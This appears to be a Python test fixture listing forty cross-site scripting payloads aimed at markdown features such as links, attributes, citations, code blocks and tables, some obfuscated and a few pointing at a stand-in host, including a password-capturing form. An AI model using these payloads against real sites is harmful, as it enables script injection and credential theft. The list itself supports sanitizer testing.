"""Forty texts that try to become more than words on a page."""

PAYLOADS = [
    # Tags
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<style>@import 'https://e.example/x.css'</style>",
    "<form action=https://e.example><input name=password>",
    "<base href=https://e.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    # Addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](//e.example/\u0001javascript:alert(1)) [y](\\\\e.example) [z](/admin/logout/)",
    # Attributes
    '![x](https://e.example/x.png"onerror="alert(1))',
    '[x](https://e.example "t\\" onmouseover=alert(1) x=\\"")',
    "[x](https://e.example'onclick='alert(1))",
    "# x {onclick=alert(1)}",
    # Citations
    "[[a]]: javascript:alert(1)\n\n[[a]]",
    "[[<script>]]",
    '[[a" onclick="alert(1)]]',
    '[[ref:"><script>alert(1)</script>]]',
    # Code, tables, headings
    "`<script>alert(1)</script>`",
    '```"><script>\nalert(1)\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '| a |\n|:-:" onclick=alert(1)|\n| b |',
    "# <script>alert(1)</script>",
]
